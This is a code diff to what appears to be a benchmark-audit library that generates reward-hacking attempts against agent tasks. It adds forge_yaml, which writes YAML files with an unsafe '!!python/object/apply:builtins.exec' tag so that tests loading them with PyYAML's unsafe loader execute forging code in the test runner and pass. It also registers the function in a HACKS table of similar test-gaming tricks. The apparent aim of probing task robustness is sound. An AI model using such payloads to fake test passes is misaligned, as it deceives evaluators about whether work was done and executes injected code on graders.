@@ -19,6 +19,7 @@ The library lives in `tasks/` because both stages need it and neither may import
 from __future__ import annotations
 
 import base64
+import json
 import posixpath
 import re
 import shlex
@@ -694,28 +695,6 @@ def everything(named: Named, workdir: str) -> list[str]:
 
 Builder = Callable[[Named, str], list[str]]
 
-HACKS: dict[str, Builder] = {
-    "stub_paths": stub_paths,
-    "module_stubs": module_stubs,
-    "echo_literals": echo_literals,
-    "shaped_outputs": shaped_outputs,
-    "copy_inputs": copy_inputs,
-    "exit_zero": exit_zero,
-    "touch_now": touch_now,
-    "epoch_mtimes": epoch_mtimes,
-    "make_dirs": make_dirs,
-    "chmod_x": chmod_x,
-    "git_commit": git_commit,
-    "everything": everything,
-    "forge_reports": forge_reports,
-    "forge_config": forge_config,
-}
-
-
-# Hacks for a state where earlier work is done (synthesis runs them after the parent's
-# solution): not in HACKS, the audit's set for a task from its start.
-AFTER_WORK: dict[str, Builder] = {"sentence_literals": sentence_literals}
-
 
 TEST_MODULE = "/tests/test_outputs.py"  # where the Harbor and Terminal-Bench layouts keep it
 
@@ -788,6 +767,48 @@ def forge_pickle(named: Named, workdir: str) -> list[str]:
         for p in named.files
         if p.endswith(PICKLED)
     ]
+
+
+# Where an instruction names a file the tests may load as YAML.
+YAML = (".yaml", ".yml")
+
+
+def forge_yaml(named: Named, workdir: str) -> list[str]:
+    """At every named YAML file a document whose loading runs IN_RUNNER_FORGER through a
+    tag that names `exec` (`!!python/object/apply`): tests that load the agent's YAML with a
+    loader that calls what the data names (PyYAML's `Loader`, `UnsafeLoader`) run it in the
+    test runner, where no mark is made (the runner knows pickles, not YAML: docs/sandbox.md,
+    "What stays outside"), and pass whatever they check; a safe loader refuses the tag."""
+    data = "!!python/object/apply:builtins.exec [" + json.dumps(IN_RUNNER_FORGER) + ", {}]\n"
+    return [
+        f"mkdir -p {_q(posixpath.dirname(p))}; printf '%s' {_q(data)} > {_q(p)}"
+        for p in named.files
+        if p.endswith(YAML)
+    ]
+
+
+HACKS: dict[str, Builder] = {
+    "stub_paths": stub_paths,
+    "module_stubs": module_stubs,
+    "echo_literals": echo_literals,
+    "shaped_outputs": shaped_outputs,
+    "copy_inputs": copy_inputs,
+    "exit_zero": exit_zero,
+    "touch_now": touch_now,
+    "epoch_mtimes": epoch_mtimes,
+    "make_dirs": make_dirs,
+    "chmod_x": chmod_x,
+    "git_commit": git_commit,
+    "everything": everything,
+    "forge_reports": forge_reports,
+    "forge_config": forge_config,
+    "forge_yaml": forge_yaml,
+}
+
+
+# Hacks for a state where earlier work is done (synthesis runs them after the parent's
+# solution): not in HACKS, the audit's set for a task from its start.
+AFTER_WORK: dict[str, Builder] = {"sentence_literals": sentence_literals}
 
 
 # Hacks the judge defeats by construction (docs/sandbox.md, "The judge"): not in HACKS, as
